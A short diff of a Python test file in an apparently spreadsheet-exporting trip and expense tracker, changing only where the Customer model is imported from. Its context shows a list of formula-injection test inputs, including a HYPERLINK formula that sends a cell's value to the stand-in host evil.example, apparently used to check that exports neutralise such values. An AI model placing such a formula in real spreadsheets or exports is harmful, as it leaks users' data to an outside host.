@@ -17,7 +17,7 @@ from tracker.auth.models import User
 from tracker.extensions import db
 from tracker.itinerary import services, workbook
 from tracker.itinerary.models import Expense, Trip
-from tracker.workorders.models import Customer
+from tracker.customers.models import Customer
 
 FORMULA_LIKE = ['=HYPERLINK("http://evil.example/?x="&A1,"点这里")', "+1+2", "-3 元", "@SUM(A1:A3)",
                 "=1+1\n第二行", "-"]
